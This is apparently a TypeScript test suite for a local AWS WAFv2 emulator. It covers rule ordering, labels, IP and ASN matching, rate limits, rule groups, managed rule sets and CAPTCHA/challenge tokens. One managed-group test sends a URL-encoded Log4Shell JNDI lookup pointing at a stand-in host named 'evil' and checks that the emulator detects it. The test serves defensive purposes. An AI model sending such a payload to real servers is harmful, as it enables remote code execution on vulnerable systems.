import { test, describe } from "node:test";
import assert from "node:assert/strict";
import type { WebACL, Rule, RuleGroup, IPSet, Statement } from "@aws-sdk/client-wafv2";
import type { InspectedRequest } from "../types.js";
import { ManualClock } from "../../core/clock.js";
import { compileWebAcl, createStaticResolver, createLocalRateCounter, rateBasedManagedKeys, WAF_VERIFY_PATH, TOKEN_COOKIE, issueToken, WafCompileError } from "./index.js";
import { createHash } from "node:crypto";

const ARN = "arn:aws:wafv2:us-east-1:111122223333:regional/webacl/acl1/abc";
const NS = "awswaf:111122223333:webacl:acl1:";
const VIS = { SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: "m" };
const KEY = Buffer.alloc(32, 1);

function req(p: Partial<InspectedRequest> & { uri?: string } = {}): InspectedRequest {
  const uri = p.uri ?? "/";
  const q = uri.indexOf("?");
  return {
    requestId: "r1", time: 0, method: "GET", uri, path: q < 0 ? uri : uri.slice(0, q), query: q < 0 ? "" : uri.slice(q + 1),
    httpVersion: "1.1", headers: [["Host", "shop.example"], ["User-Agent", "Mozilla/5.0"]], body: Buffer.alloc(0), bodyTruncated: false,
    bodyLength: 0, clientIp: "198.51.100.20", scheme: "https", ...p,
  };
}
function byteRule(name: string, priority: number, search: string, action: Rule["Action"], extra: Partial<Rule> = {}): Rule {
  return {
    Name: name, Priority: priority, Action: action, VisibilityConfig: VIS,
    Statement: { ByteMatchStatement: { SearchString: Buffer.from(search), FieldToMatch: { UriPath: {} }, PositionalConstraint: "CONTAINS", TextTransformations: [{ Priority: 0, Type: "URL_DECODE" }] } },
    ...extra,
  };
}
function acl(rules: Rule[], extra: Partial<WebACL> = {}): WebACL {
  return { Name: "acl1", Id: "abc", ARN, DefaultAction: { Allow: {} }, VisibilityConfig: VIS, Rules: rules, ...extra };
}
function compile(a: WebACL, clock = new ManualClock(1_700_000_000_000), resolverInput = {}) {
  return compileWebAcl(a, { resolver: createStaticResolver(resolverInput), rateCounter: createLocalRateCounter(), clock, tokenKey: KEY });
}

describe("rule evaluation", () => {
  test("priority order, labels, count then block, custom response", async () => {
    const ev = compile(acl([
      byteRule("B", 2, "admin", { Block: { CustomResponse: { ResponseCode: 418, CustomResponseBodyKey: "k", ResponseHeaders: [{ Name: "x-why", Value: "teapot" }] } } }),
      byteRule("A", 1, "admin", { Count: { CustomRequestHandling: { InsertHeaders: [{ Name: "seen", Value: "1" }] } } }, { RuleLabels: [{ Name: "grp:admin" }] }),
    ], { CustomResponseBodies: { k: { ContentType: "APPLICATION_JSON", Content: "{\"no\":1}" } } }));
    const d = await ev.evaluate(req({ uri: "/%61dmin" }));
    assert.equal(d.action, "BLOCK");
    assert.equal(d.terminatingRuleId, "B");
    assert.deepEqual(d.labels, [NS + "grp:admin"]);
    assert.deepEqual(d.countedRules, ["A"]);
    assert.deepEqual(d.matchedRules, [{ ruleId: "A", action: "COUNT" }, { ruleId: "B", action: "BLOCK" }]);
    assert.deepEqual(d.response, { status: 418, headers: [["x-why", "teapot"], ["content-type", "application/json"]], body: "{\"no\":1}" });
  });

  test("allow terminates before later block; inserted headers from count and allow are prefixed", async () => {
    const ev = compile(acl([
      byteRule("C", 1, "x", { Count: { CustomRequestHandling: { InsertHeaders: [{ Name: "a", Value: "1" }] } } }),
      byteRule("Al", 2, "x", { Allow: { CustomRequestHandling: { InsertHeaders: [{ Name: "b", Value: "2" }] } } }),
      byteRule("Bl", 3, "x", { Block: {} }),
    ]));
    const d = await ev.evaluate(req({ uri: "/x" }));
    assert.equal(d.action, "ALLOW");
    assert.equal(d.terminatingRuleId, "Al");
    assert.deepEqual(d.insertHeaders, [["x-amzn-waf-a", "1"], ["x-amzn-waf-b", "2"]]);
  });

  test("default action block and allow", async () => {
    const d1 = await compile(acl([], { DefaultAction: { Block: { CustomResponse: { ResponseCode: 451 } } } })).evaluate(req());
    assert.equal(d1.action, "BLOCK");
    assert.equal(d1.terminatingRuleId, "Default_Action");
    assert.equal(d1.response?.status, 451);
    const d2 = await compile(acl([])).evaluate(req());
    assert.equal(d2.action, "ALLOW");
    assert.equal(d2.terminatingRuleId, "Default_Action");
  });

  test("label match sees labels of earlier rules only", async () => {
    const labelRule = (name: string, p: number, key: string): Rule => ({ Name: name, Priority: p, Action: { Block: {} }, VisibilityConfig: VIS, Statement: { LabelMatchStatement: { Scope: "LABEL", Key: key } } });
    const ev = compile(acl([
      labelRule("Early", 1, "tag"),
      byteRule("Tagger", 2, "/", { Count: {} }, { RuleLabels: [{ Name: "ns:tag" }] }),
      { Name: "NsMatch", Priority: 3, Action: { Count: {} }, VisibilityConfig: VIS, Statement: { LabelMatchStatement: { Scope: "NAMESPACE", Key: "ns:" } } },
      labelRule("Late", 4, NS + "ns:tag"),
    ]));
    const d = await ev.evaluate(req());
    assert.equal(d.terminatingRuleId, "Late");
    assert.deepEqual(d.countedRules, ["Tagger", "NsMatch"]);
  });

  test("size, geo-free IP set with forwarded IP fallback, and/or/not", async () => {
    const ipSet: IPSet = { Name: "s", Id: "1", ARN: "arn:ipset", IPAddressVersion: "IPV4", Addresses: ["203.0.113.0/24"] };
    const ev = compile(acl([
      { Name: "Xff", Priority: 1, Action: { Block: {} }, VisibilityConfig: VIS, Statement: { IPSetReferenceStatement: { ARN: "arn:ipset", IPSetForwardedIPConfig: { HeaderName: "X-Forwarded-For", FallbackBehavior: "MATCH", Position: "LAST" } } } },
      { Name: "Big", Priority: 2, Action: { Block: {} }, VisibilityConfig: VIS, Statement: { AndStatement: { Statements: [
        { SizeConstraintStatement: { FieldToMatch: { QueryString: {} }, ComparisonOperator: "GT", Size: 5, TextTransformations: [{ Priority: 0, Type: "NONE" }] } },
        { NotStatement: { Statement: { ByteMatchStatement: { SearchString: Buffer.from("POST"), FieldToMatch: { Method: {} }, PositionalConstraint: "EXACTLY", TextTransformations: [{ Priority: 0, Type: "NONE" }] } } } },
      ] } } },
    ]), undefined, { ipSets: [ipSet] });
    const h = (v: string): Array<[string, string]> => [["Host", "a"], ["X-Forwarded-For", v]];
    assert.equal((await ev.evaluate(req({ headers: h("1.1.1.1, 203.0.113.9") }))).terminatingRuleId, "Xff");
    assert.equal((await ev.evaluate(req({ headers: h("203.0.113.9, 1.1.1.1") }))).action, "ALLOW");
    assert.equal((await ev.evaluate(req({ headers: h("garbage") }))).terminatingRuleId, "Xff", "invalid address uses FallbackBehavior MATCH");
    assert.equal((await ev.evaluate(req({ uri: "/?abcdef" }))).terminatingRuleId, "Big");
    assert.equal((await ev.evaluate(req({ uri: "/?abcdef", method: "POST" }))).action, "ALLOW");
  });

  test("a forwarded-IP header missing from the request: the rule does not apply at all, however deeply nested", async () => {
    const ipSet: IPSet = { Name: "s", Id: "1", ARN: "arn:ipset", IPAddressVersion: "IPV4", Addresses: ["203.0.113.0/24"] };
    const xff = (FallbackBehavior: "MATCH" | "NO_MATCH" = "NO_MATCH"): Statement => ({ IPSetReferenceStatement: { ARN: "arn:ipset", IPSetForwardedIPConfig: { HeaderName: "X-Forwarded-For", FallbackBehavior, Position: "FIRST" } } });
    const geo: Statement = { GeoMatchStatement: { CountryCodes: ["US"], ForwardedIPConfig: { HeaderName: "X-Client-IP", FallbackBehavior: "MATCH" } } };
    const get: Statement = { ByteMatchStatement: { SearchString: Buffer.from("GET"), FieldToMatch: { Method: {} }, PositionalConstraint: "EXACTLY", TextTransformations: [{ Priority: 0, Type: "NONE" }] } };
    const rule = (Name: string, Priority: number, Statement: Statement): Rule => ({ Name, Priority, Action: { Count: {} }, VisibilityConfig: VIS, Statement });
    const ev = compile(acl([
      rule("NotXff", 1, { NotStatement: { Statement: xff() } }),
      rule("OrXff", 2, { OrStatement: { Statements: [get, xff()] } }),
      rule("DeepGeo", 3, { AndStatement: { Statements: [get, { NotStatement: { Statement: { OrStatement: { Statements: [xff("MATCH"), { NotStatement: { Statement: geo } }] } } } }] } }),
      rule("Plain", 4, { NotStatement: { Statement: { IPSetReferenceStatement: { ARN: "arn:ipset" } } } }),
    ]), undefined, { ipSets: [ipSet] });
    // No X-Forwarded-For, no X-Client-IP: only the rule without a forwarded-IP statement applies.
    assert.deepEqual((await ev.evaluate(req())).countedRules, ["Plain"]);
    // Headers present: the statements decide (an unlisted address; the geo fallback MATCH for an invalid one).
    const both: Array<[string, string]> = [["Host", "a"], ["X-Forwarded-For", "198.51.100.7"], ["X-Client-IP", "not-an-ip"]];
    assert.deepEqual((await ev.evaluate(req({ headers: both }))).countedRules, ["NotXff", "OrXff", "DeepGeo", "Plain"]);
    // Only one of DeepGeo's two headers present: it still does not apply.
    const one: Array<[string, string]> = [["Host", "a"], ["X-Forwarded-For", "198.51.100.7"]];
    assert.deepEqual((await ev.evaluate(req({ headers: one }))).countedRules, ["NotXff", "OrXff", "Plain"]);
  });

  test("ASN match: with no ASN data every valid address is ASN 0 (unmapped), so only a list with 0 matches; invalid forwarded addresses take the fallback", async () => {
    const rule = (Name: string, Priority: number, Statement: Statement): Rule => ({ Name, Priority, Action: { Count: {} }, VisibilityConfig: VIS, Statement });
    const fwd = (FallbackBehavior: "MATCH" | "NO_MATCH") => ({ HeaderName: "X-Forwarded-For", FallbackBehavior });
    const ev = compile(acl([
      rule("Unmapped", 1, { AsnMatchStatement: { AsnList: [0, 64496] } }),
      rule("Mapped", 2, { AsnMatchStatement: { AsnList: [16509, 64496] } }),
      rule("NotMapped", 3, { NotStatement: { Statement: { AsnMatchStatement: { AsnList: [16509] } } } }),
      rule("FwdUnmapped", 4, { AsnMatchStatement: { AsnList: [0], ForwardedIPConfig: fwd("NO_MATCH") } }),
      rule("FwdFallback", 5, { AsnMatchStatement: { AsnList: [16509], ForwardedIPConfig: fwd("MATCH") } }),
    ]));
    assert.deepEqual((await ev.evaluate(req())).countedRules, ["Unmapped", "NotMapped"]);
    assert.deepEqual((await ev.evaluate(req({ headers: [["Host", "a"], ["X-Forwarded-For", "192.0.2.9, 10.0.0.1"]] }))).countedRules, ["Unmapped", "NotMapped", "FwdUnmapped"]);
    assert.deepEqual((await ev.evaluate(req({ headers: [["Host", "a"], ["X-Forwarded-For", "not-an-ip"]] }))).countedRules, ["Unmapped", "NotMapped", "FwdFallback"]);
  });

  test("a rate-based rule whose scope-down inspects a missing forwarded-IP header neither counts nor matches the request", async () => {
    const ipSet: IPSet = { Name: "s", Id: "1", ARN: "arn:ipset", IPAddressVersion: "IPV4", Addresses: ["203.0.113.0/24"] };
    const ev = compile(acl([{
      Name: "Rate", Priority: 1, Action: { Block: {} }, VisibilityConfig: VIS,
      Statement: { RateBasedStatement: { Limit: 10, AggregateKeyType: "IP", ScopeDownStatement: { NotStatement: { Statement: { IPSetReferenceStatement: { ARN: "arn:ipset", IPSetForwardedIPConfig: { HeaderName: "X-Forwarded-For", FallbackBehavior: "NO_MATCH", Position: "FIRST" } } } } } } },
    }]), undefined, { ipSets: [ipSet] });
    for (let i = 0; i < 20; i++) assert.equal((await ev.evaluate(req())).action, "ALLOW");
    const xff: Array<[string, string]> = [["Host", "a"], ["X-Forwarded-For", "198.51.100.7"]];
    const actions: string[] = [];
    for (let i = 0; i < 12; i++) actions.push((await ev.evaluate(req({ headers: xff }))).action);
    assert.deepEqual(actions, [...Array(10).fill("ALLOW"), "BLOCK", "BLOCK"]);
  });

  test("JSON body scope KEY/VALUE and included paths", async () => {
    const jsonRule = (name: string, p: number, scope: "KEY" | "VALUE", paths?: string[]): Rule => ({
      Name: name, Priority: p, Action: { Count: {} }, VisibilityConfig: VIS,
      Statement: { ByteMatchStatement: { SearchString: Buffer.from("evil"), PositionalConstraint: "EXACTLY", TextTransformations: [{ Priority: 0, Type: "NONE" }],
        FieldToMatch: { JsonBody: { MatchPattern: paths ? { IncludedPaths: paths } : { All: {} }, MatchScope: scope } } } },
    });
    const ev = compile(acl([jsonRule("Keys", 1, "KEY"), jsonRule("Vals", 2, "VALUE"), jsonRule("PathB", 3, "VALUE", ["/b"])]));
    const body = Buffer.from(JSON.stringify({ evil: 1, a: ["evil"], b: { c: "ok" } }));
    const d = await ev.evaluate(req({ method: "POST", body, bodyLength: body.length }));
    assert.deepEqual(d.countedRules, ["Keys", "Vals"]);
  });
});

describe("rule groups", () => {
  const rg: RuleGroup = {
    Name: "grp", Id: "g", ARN: "arn:aws:wafv2:us-east-1:111122223333:regional/rulegroup/grp/g", Capacity: 50, VisibilityConfig: VIS,
    Rules: [byteRule("GBlock", 1, "bad", { Block: {} }, { RuleLabels: [{ Name: "hit" }] }), byteRule("GCount", 0, "bad", { Count: {} })],
  };
  const ref = (overrideCount: boolean, overrides?: Rule["Statement"]): Rule => ({
    Name: "UseGroup", Priority: 1, VisibilityConfig: VIS, OverrideAction: overrideCount ? { Count: {} } : { None: {} },
    Statement: overrides ?? { RuleGroupReferenceStatement: { ARN: rg.ARN } },
  });
  test("group block terminates the web ACL with the referencing rule's name and the group's label namespace", async () => {
    const d = await compile(acl([ref(false)]), undefined, { ruleGroups: [rg] }).evaluate(req({ uri: "/bad" }));
    assert.equal(d.action, "BLOCK");
    assert.equal(d.terminatingRuleId, "UseGroup");
    assert.deepEqual(d.labels, ["awswaf:111122223333:rulegroup:grp:hit"]);
    assert.deepEqual(d.matchedRules, [{ ruleId: "GCount", action: "COUNT", ruleGroupId: "grp" }, { ruleId: "GBlock", action: "BLOCK", ruleGroupId: "grp" }]);
  });
  test("OverrideAction Count turns the group's block into a count", async () => {
    const d = await compile(acl([ref(true)]), undefined, { ruleGroups: [rg] }).evaluate(req({ uri: "/bad" }));
    assert.equal(d.action, "ALLOW");
    assert.deepEqual(d.countedRules, ["GCount", "GBlock"]);
  });
  test("RuleActionOverrides replace a rule's action", async () => {
    const st = { RuleGroupReferenceStatement: { ARN: rg.ARN, RuleActionOverrides: [{ Name: "GBlock", ActionToUse: { Count: {} } }] } };
    const d = await compile(acl([ref(false, st)]), undefined, { ruleGroups: [rg] }).evaluate(req({ uri: "/bad" }));
    assert.equal(d.action, "ALLOW");
    assert.deepEqual(d.countedRules, ["GCount", "GBlock"]);
  });
  test("managed group: scope-down, labels, Host_localhost override", async () => {
    const rule: Rule = { Name: "KBI", Priority: 0, OverrideAction: { None: {} }, VisibilityConfig: VIS, Statement: { ManagedRuleGroupStatement: { VendorName: "AWS", Name: "AWSManagedRulesKnownBadInputsRuleSet" } } };
    const ev = compile(acl([rule]));
    const d = await ev.evaluate(req({ headers: [["Host", "localhost"], ["User-Agent", "x"]] }));
    assert.equal(d.action, "BLOCK");
    assert.deepEqual(d.labels, ["awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header"]);
    const log4j = await ev.evaluate(req({ uri: "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D" }));
    assert.equal(log4j.matchedRules[0]?.ruleId, "Log4JRCE_QUERYSTRING");
    const scoped = compile(acl([{ ...rule, Statement: { ManagedRuleGroupStatement: { VendorName: "AWS", Name: "AWSManagedRulesKnownBadInputsRuleSet", ScopeDownStatement: { ByteMatchStatement: { SearchString: Buffer.from("/api"), FieldToMatch: { UriPath: {} }, PositionalConstraint: "STARTS_WITH", TextTransformations: [{ Priority: 0, Type: "NONE" }] } } } } }]));
    assert.equal((await scoped.evaluate(req({ headers: [["Host", "localhost"]] }))).action, "ALLOW");
  });
});

describe("rate-based rules", () => {
  test("blocks an IP above the limit within the window and forgets it after", async () => {
    const clock = new ManualClock(1_700_000_000_000);
    const ev = compile(acl([{ Name: "Rate", Priority: 0, Action: { Block: {} }, VisibilityConfig: VIS, Statement: { RateBasedStatement: { Limit: 10, EvaluationWindowSec: 60, AggregateKeyType: "IP" } } }]), clock);
    for (let i = 0; i < 10; i++) assert.equal((await ev.evaluate(req())).action, "ALLOW");
    assert.equal((await ev.evaluate(req())).action, "BLOCK");
    assert.equal((await ev.evaluate(req({ clientIp: "198.51.100.21" }))).action, "ALLOW", "other IPs are separate aggregation instances");
    clock.advance(70_000);
    assert.equal((await ev.evaluate(req())).action, "ALLOW");
  });
  test("custom keys: a missing key component is not counted", async () => {
    const clock = new ManualClock(1_700_000_000_000);
    const ev = compile(acl([{ Name: "R", Priority: 0, Action: { Block: {} }, VisibilityConfig: VIS, Statement: { RateBasedStatement: { Limit: 10, AggregateKeyType: "CUSTOM_KEYS", CustomKeys: [{ Header: { Name: "x-api-key", TextTransformations: [{ Priority: 0, Type: "LOWERCASE" }] } }] } } }]), clock);
    for (let i = 0; i < 12; i++) assert.equal((await ev.evaluate(req())).action, "ALLOW");
    const withKey = (v: string) => req({ headers: [["Host", "a"], ["x-api-key", v]] });
    for (let i = 0; i < 10; i++) await ev.evaluate(withKey(i % 2 ? "K1" : "k1"));
    assert.equal((await ev.evaluate(withKey("K1"))).action, "BLOCK");
  });
  test("the addresses over the limit are the rule instance's managed keys, highest rate first, until their rate falls", async () => {
    const clock = new ManualClock(1_700_000_000_000);
    const counter = createLocalRateCounter();
    const statement = { Limit: 10, EvaluationWindowSec: 60, AggregateKeyType: "IP" as const, ScopeDownStatement: { ByteMatchStatement: { SearchString: Buffer.from("/api"), FieldToMatch: { UriPath: {} }, PositionalConstraint: "STARTS_WITH" as const, TextTransformations: [{ Priority: 0, Type: "NONE" as const }] } } };
    const group: RuleGroup = { Name: "g", Id: "g1", ARN: "arn:aws:wafv2:us-east-1:111122223333:regional/rulegroup/g/g1", Capacity: 10, VisibilityConfig: VIS, Rules: [{ Name: "Inner", Priority: 0, Action: { Block: {} }, VisibilityConfig: VIS, Statement: { RateBasedStatement: statement } }] };
    const ev = compileWebAcl(
      acl([
        { Name: "Rate", Priority: 0, Action: { Count: {} }, VisibilityConfig: VIS, Statement: { RateBasedStatement: statement } },
        { Name: "Ref", Priority: 1, OverrideAction: { Count: {} }, VisibilityConfig: VIS, Statement: { RuleGroupReferenceStatement: { ARN: group.ARN } } },
      ]),
      { resolver: createStaticResolver({ ruleGroups: [group] }), rateCounter: counter, clock, tokenKey: KEY },
    );
    const send = async (clientIp: string, n: number, uri = "/api/x") => {
      for (let i = 0; i < n; i++) await ev.evaluate(req({ clientIp, uri }));
    };
    await send("198.51.100.1", 12);
    await send("198.51.100.2", 15);
    await send("2001:db8::5", 11);
    await send("198.51.100.3", 10); // at the limit, not over it
    await send("198.51.100.4", 30, "/home"); // outside the scope-down statement: not counted
    const keys = (instance: string) => rateBasedManagedKeys(counter, clock.now(), `${ARN}/${instance}`, statement);
    assert.deepEqual(await keys("Rate"), { ipv4: ["198.51.100.2/32", "198.51.100.1/32"], ipv6: ["2001:db8::5/128"] });
    assert.deepEqual(await keys("Ref/Inner"), await keys("Rate"), "the rule group's rule is counted under its own instance");
    assert.deepEqual(await keys("Other"), { ipv4: [], ipv6: [] });
    clock.advance(30_000);
    await send("198.51.100.1", 1);
    clock.advance(40_000);
    // 70 s on: the first bursts left the 60 s window; 198.51.100.1's latest request alone remains.
    assert.deepEqual(await keys("Rate"), { ipv4: [], ipv6: [] });
    assert.equal(await rateBasedManagedKeys(counter, clock.now(), `${ARN}/Rate`, { ...statement, AggregateKeyType: "CONSTANT" }), "unsupported");
    assert.equal(await rateBasedManagedKeys(counter, clock.now(), `${ARN}/Rate`, { ...statement, AggregateKeyType: "CUSTOM_KEYS", CustomKeys: [{ IP: {} }] }), "unsupported");
  });
  test("forwarded IPs are counted by address, not by spelling, and reported in canonical form", async () => {
    const clock = new ManualClock(1_700_000_000_000);
    const counter = createLocalRateCounter();
    const statement = { Limit: 10, EvaluationWindowSec: 60, AggregateKeyType: "FORWARDED_IP" as const, ForwardedIPConfig: { HeaderName: "X-Client", FallbackBehavior: "NO_MATCH" as const } };
    const ev = compileWebAcl(acl([{ Name: "Fwd", Priority: 0, Action: { Block: {} }, VisibilityConfig: VIS, Statement: { RateBasedStatement: statement } }]), { resolver: createStaticResolver({}), rateCounter: counter, clock, tokenKey: KEY });
    const from = (v: string) => ev.evaluate(req({ headers: [["Host", "a"], ["X-Client", v]] }));
    const spellings = ["2001:DB8::1", "[2001:db8::1]", "2001:db8:0:0::1", "2001:db8::1%eth0", "2001:0db8:0000:0000:0000:0000:0000:0001"];
    for (let i = 0; i < 10; i++) assert.equal((await from(spellings[i % spellings.length]!)).action, "ALLOW");
    assert.equal((await from("2001:db8::0:1")).action, "BLOCK", "the eleventh request of one address, however written");
    for (let i = 0; i < 11; i++) await from(i % 2 ? "::ffff:192.0.2.7" : "192.0.2.7");
    assert.deepEqual(await rateBasedManagedKeys(counter, clock.now(), `${ARN}/Fwd`, statement), { ipv4: ["192.0.2.7/32"], ipv6: ["2001:db8::1/128"] });
  });
  test("Limit is an integer from 10 to 2,000,000,000: fractions, NaN and out-of-range values do not compile", () => {
    const rate = (Limit: number): WebACL => acl([{ Name: "R", Priority: 0, Action: { Block: {} }, VisibilityConfig: VIS, Statement: { RateBasedStatement: { Limit, AggregateKeyType: "IP" } } }]);
    for (const bad of [9, 10.5, 1000.25, Number.NaN, 2_000_000_001, Infinity]) assert.throws(() => compile(rate(bad)), WafCompileError, String(bad));
    for (const good of [10, 2_000_000_000]) compile(rate(good));
  });
});

describe("input the engine cannot run", () => {
  const field = (statement: Rule["Statement"]): WebACL => acl([{ Name: "R", Priority: 0, Action: { Block: {} }, VisibilityConfig: VIS, Statement: statement }]);
  const tts = [{ Priority: 0, Type: "NONE" as const }];
  test("every such problem is a WafCompileError (the control plane answers it as a parameter error)", () => {
    const cases: Array<Rule["Statement"]> = [
      { ByteMatchStatement: { SearchString: Buffer.from("x"), FieldToMatch: {}, PositionalConstraint: "CONTAINS", TextTransformations: tts } },
      { ByteMatchStatement: { SearchString: Buffer.from("x"), FieldToMatch: { UriPath: {} }, PositionalConstraint: "CONTAINS", TextTransformations: [{ Priority: 0, Type: "FOO" as "NONE" }] } },
      { RegexMatchStatement: { RegexString: "(", FieldToMatch: { UriPath: {} }, TextTransformations: tts } },
      { SizeConstraintStatement: { FieldToMatch: { UriPath: {} }, ComparisonOperator: "GT", Size: 1.5, TextTransformations: tts } },
      { SizeConstraintStatement: { FieldToMatch: { UriPath: {} }, ComparisonOperator: "GT", Size: -1, TextTransformations: tts } },
      { AsnMatchStatement: { AsnList: [1.5] } },
    ];
    for (const st of cases) assert.throws(() => compile(field(st)), WafCompileError, JSON.stringify(st));
    const ipArn = "arn:aws:wafv2:us-east-1:111122223333:regional/ipset/s/1";
    const badSet: IPSet = { Name: "s", Id: "1", ARN: ipArn, IPAddressVersion: "IPV4", Addresses: ["300.1.1.1/32"] };
    assert.throws(() => compile(field({ IPSetReferenceStatement: { ARN: ipArn } }), undefined, { ipSets: [badSet] }), WafCompileError);
  });
});

describe("CAPTCHA and challenge", () => {
  const captchaAcl = acl([byteRule("Cap", 0, "/", { Captcha: {} }, { CaptchaConfig: { ImmunityTimeProperty: { ImmunityTime: 60 } } })]);
  test("no token: 405 interstitial for browsers, empty body otherwise", async () => {
    const ev = compile(captchaAcl);
    const d = await ev.evaluate(req({ headers: [["Host", "shop.example"], ["Accept", "text/html"]] }));
    assert.equal(d.action, "CAPTCHA");
    assert.equal(d.response?.status, 405);
    assert.deepEqual(d.response?.headers[0], ["x-amzn-waf-action", "captcha"]);
    assert.match(String(d.response?.body), /<svg/);
    const api = await ev.evaluate(req());
    assert.equal(api.response?.body, "");
    assert.deepEqual(api.labels, ["awswaf:managed:token:absent"]);
  });
  test("valid token passes until the immunity time expires; tokens are host-bound", async () => {
    const clock = new ManualClock(1_700_000_000_000);
    const ev = compile(captchaAcl, clock);
    const token = issueToken(KEY, "shop.example", { captchaAt: clock.now(), challengeAt: clock.now() });
    const withCookie = (host: string) => req({ headers: [["Host", host], ["Cookie", `${TOKEN_COOKIE}=${token}`]] });
    assert.equal((await ev.evaluate(withCookie("shop.example"))).action, "ALLOW");
    assert.equal((await ev.evaluate(withCookie("other.example"))).action, "CAPTCHA");
    clock.advance(61_000);
    assert.equal((await ev.evaluate(withCookie("shop.example"))).action, "CAPTCHA");
  });
  test("TokenDomains: a token of a listed domain is accepted on its subdomains, and solutions are issued for it", async () => {
    const clock = new ManualClock(1_700_000_000_000);
    const ev = compile(acl([byteRule("Cap", 0, "/", { Captcha: {} })], { TokenDomains: ["Example.com", "shop.example.com"] }), clock);
    const shared = issueToken(KEY, "example.com", { captchaAt: clock.now(), challengeAt: clock.now() });
    const at = (host: string, token: string) => req({ headers: [["Host", host], ["Cookie", `${TOKEN_COOKIE}=${token}`]] });
    for (const host of ["example.com", "api.example.com", "www.shop.example.com:8443"]) assert.equal((await ev.evaluate(at(host, shared))).action, "ALLOW", host);
    for (const host of ["apiexample.com", "example.com.evil.test", "other.test"]) assert.equal((await ev.evaluate(at(host, shared))).action, "CAPTCHA", host);
    // A token of one host stays valid there (and only there).
    const own = issueToken(KEY, "api.example.com", { captchaAt: clock.now() });
    assert.equal((await ev.evaluate(at("api.example.com", own))).action, "ALLOW");
    assert.equal((await ev.evaluate(at("www.example.com", own))).action, "CAPTCHA");
    // Without a list, tokens stay bound to the host.
    assert.equal((await compile(acl([byteRule("Cap", 0, "/", { Captcha: {} })]), clock).evaluate(at("api.example.com", shared))).action, "CAPTCHA");

    const ch = compile(acl([byteRule("Ch", 0, "/", { Challenge: {} })], { TokenDomains: ["shop.example.com", "example.com"] }), clock);
    const page = await ch.evaluate(req({ headers: [["Host", "api.example.com"], ["Accept", "text/html"]] }));
    const puzzle = /var puzzle="([^"]+)"/.exec(String(page.response?.body))?.[1] ?? "";
    const p = JSON.parse(Buffer.from(puzzle.split(".")[0] ?? "", "base64url").toString()) as { n: string; d: number };
    let counter = 0;
    for (;; counter++) {
      const h = createHash("sha256").update(`${p.n}:${counter}`).digest();
      let z = 0;
      for (const b of h) { if (b === 0) { z += 8; continue; } z += Math.clz32(b) - 24; break; }
      if (z >= p.d) break;
    }
    const body = Buffer.from(new URLSearchParams({ puzzle, counter: String(counter) }).toString());
    const solved = ch.handleVerification?.(req({ method: "POST", uri: WAF_VERIFY_PATH, headers: [["Host", "api.example.com"]], body, bodyLength: body.length }));
    const cookie = solved?.headers.find(([n]) => n === "set-cookie")?.[1] ?? "";
    assert.match(cookie, /^aws-waf-token=[A-Za-z0-9_-]+; Path=\/; Domain=example\.com; Max-Age=31536000; SameSite=Lax; Secure$/);
    const token = (cookie.split(";")[0] ?? "").slice(TOKEN_COOKIE.length + 1);
    assert.equal((await ch.evaluate(at("www.example.com", token))).action, "ALLOW");
  });

  test("challenge answers 202; solving the proof of work at the verify path sets a working token", async () => {
    const clock = new ManualClock(1_700_000_000_000);
    const ev = compile(acl([byteRule("Ch", 0, "/", { Challenge: {} })]), clock);
    const first = await ev.evaluate(req({ headers: [["Host", "shop.example"], ["Accept", "text/html"]] }));
    assert.equal(first.response?.status, 202);
    const puzzle = /var puzzle="([^"]+)"/.exec(String(first.response?.body))?.[1] ?? "";
    const p = JSON.parse(Buffer.from(puzzle.split(".")[0] ?? "", "base64url").toString()) as { n: string; d: number };
    let counter = 0;
    for (;; counter++) {
      const h = createHash("sha256").update(`${p.n}:${counter}`).digest();
      let z = 0;
      for (const b of h) { if (b === 0) { z += 8; continue; } z += Math.clz32(b) - 24; break; }
      if (z >= p.d) break;
    }
    const body = Buffer.from(new URLSearchParams({ puzzle, counter: String(counter) }).toString());
    const verify = req({ method: "POST", uri: WAF_VERIFY_PATH, headers: [["Host", "shop.example"]], body, bodyLength: body.length });
    const res = ev.handleVerification?.(verify);
    assert.equal(res?.status, 200);
    const cookie = res?.headers.find(([n]) => n === "set-cookie")?.[1] ?? "";
    assert.match(cookie, /^aws-waf-token=[A-Za-z0-9_-]+; Path=\/; Max-Age=31536000; SameSite=Lax; Secure$/);
    assert.equal(ev.handleVerification?.(verify)?.status, 403, "a puzzle is redeemed once");
    const token = cookie.split(";")[0] ?? "";
    assert.equal((await ev.evaluate(req({ headers: [["Host", "shop.example"], ["Cookie", token]] }))).action, "ALLOW");
    assert.equal(ev.handleVerification?.(req({ uri: "/other" })), undefined);
  });
});
